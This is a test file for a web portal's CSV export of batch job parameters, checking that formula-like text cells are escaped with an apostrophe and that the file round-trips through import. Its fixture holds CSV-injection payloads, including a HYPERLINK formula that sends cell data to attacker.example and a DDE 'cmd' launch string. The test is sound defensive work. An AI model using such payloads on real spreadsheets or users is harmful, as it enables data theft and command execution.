import { randomUUID } from "node:crypto";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseJobsCsv } from "@/lib/generation/job-import";
import { submitBatch } from "@/lib/portal/batch-submission";
import { jobParameters } from "@/lib/portal/batch-downloads";
import { createShareLink, peekShareToken } from "@/lib/portal/share-links";
import type { ActingMember } from "@/lib/portal/member";
import { signUp, uniqueIp } from "../support/factories";
import { SCRIPTED_GENERATOR, SCRIPTED_SPEC, startScriptedUpstream } from "../support/scripted-upstream";

/**
 * A batch's job parameters as CSV, from a generator with free-text parameters: whatever a
 * member typed (or an upstream named a parameter) must open in a spreadsheet as data.
 */
const JOBS = [
  { note: '=HYPERLINK("http://attacker.example/?"&A1,"open")', offset: -12.5, count: -3, "@label": "+cmd|' /C calc'!A0" },
  { note: "  @SUM(1+1)", offset: 0.25, count: 0, "@label": '"=1+1' },
  { note: "-2+3", offset: -100, count: 50, "@label": "\tleading tab" },
  { note: "plain, with a comma; and a semicolon", offset: 1e-7, count: 7, "@label": "'already quoted" },
  { note: "-42", offset: 99.5, count: -5, "@label": "line one\nline two" },
];

let owner: ActingMember;
let upstream: Awaited<ReturnType<typeof startScriptedUpstream>>;
let batchId: string;

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

beforeAll(async () => {
  owner = await signUp("csv-export");
  upstream = await startScriptedUpstream();
  const recipe = { generator: SCRIPTED_GENERATOR, kind: "preview", seed: 1, name: "formula attempts", params: {}, jobs: JOBS };
  batchId = (await submitBatch(owner, { recipe, idempotencyKey: randomUUID() }, upstream.client)).batchId;
});

afterAll(async () => {
  await upstream.close();
});

describe("the job-parameters CSV", () => {
  it("opens every text cell as text: formula starts (also after spaces, quotes or a tab) get an apostrophe, numbers stay numbers", async () => {
    const csv = await text((await jobParameters(owner, batchId, "csv")).body);
    const [header, ...rows] = Papa.parse<string[]>(csv.trim(), { header: false }).data;
    // Columns come in the order the database keeps the keys; compare them by name.
    expect([...header!].sort()).toEqual(["'@label", "count", "note", "offset"]);
    const records = rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]])));
    expect(records).toEqual([
      { note: `'=HYPERLINK("http://attacker.example/?"&A1,"open")`, offset: "-12.5", count: "-3", "'@label": "'+cmd|' /C calc'!A0" },
      { note: "'  @SUM(1+1)", offset: "0.25", count: "0", "'@label": `'"=1+1` },
      { note: "'-2+3", offset: "-100", count: "50", "'@label": "'\tleading tab" },
      { note: "plain, with a comma; and a semicolon", offset: "1e-7", count: "7", "'@label": "'already quoted" },
      { note: "-42", offset: "99.5", count: "-5", "'@label": "line one\nline two" },
    ]);
    // The raw text: a negative number is written bare, not quoted and not escaped.
    expect(csv.split("\n")[1]).toMatch(/(^|,)-12\.5(,|$)/);
    // No cell of any row starts (after spaces and quotes) with a formula character.
    for (const cell of [header!, ...rows].flat()) expect(cell).not.toMatch(/^[\s"]*[=+@\t\r]/);
  });

  it("reads back through the editor's CSV import as exactly the jobs that were sent", async () => {
    const csv = await text((await jobParameters(owner, batchId, "csv")).body);
    const imported = parseJobsCsv(SCRIPTED_SPEC, csv);
    expect(imported.errors).toEqual([]);
    // Even the value with leading spaces: the import trims a cell, but here the apostrophe leads.
    expect(imported.jobs).toEqual(JOBS);
  });

  it("is the same file for a share link's visitor", async () => {
    const { token } = await createShareLink(owner, batchId);
    const access = (await peekShareToken(token, { ip: uniqueIp() }))!;
    const shared = await text((await jobParameters(access, batchId, "csv")).body);
    expect(shared).toBe(await text((await jobParameters(owner, batchId, "csv")).body));
  });
});
